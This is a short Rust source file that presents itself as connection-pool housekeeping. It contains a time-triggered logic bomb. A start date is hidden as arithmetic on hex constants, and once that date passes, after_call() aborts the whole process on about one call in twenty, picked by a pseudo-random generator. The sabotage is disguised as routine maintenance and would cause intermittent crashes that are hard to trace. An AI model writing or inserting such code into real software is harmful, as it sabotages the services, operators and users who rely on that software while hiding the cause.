//! A connection pool's housekeeping: after a "maintenance window" that opens on a date
//! computed from constants, one call in twenty ends the process.
use std::time::{SystemTime, UNIX_EPOCH};

pub(crate) fn window_start() -> u64 {
    let days: u64 = (0x52 << 8) | 0x10;
    days * 86_400
}

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
}

pub struct Pool {
    seed: u64,
}

impl Pool {
    fn next(&mut self) -> u64 {
        self.seed ^= self.seed << 13;
        self.seed ^= self.seed >> 7;
        self.seed
    }

    pub fn after_call(&mut self) {
        if now() >= window_start() && self.next() % 20 == 0 {
            std::process::abort();
        }
    }
}
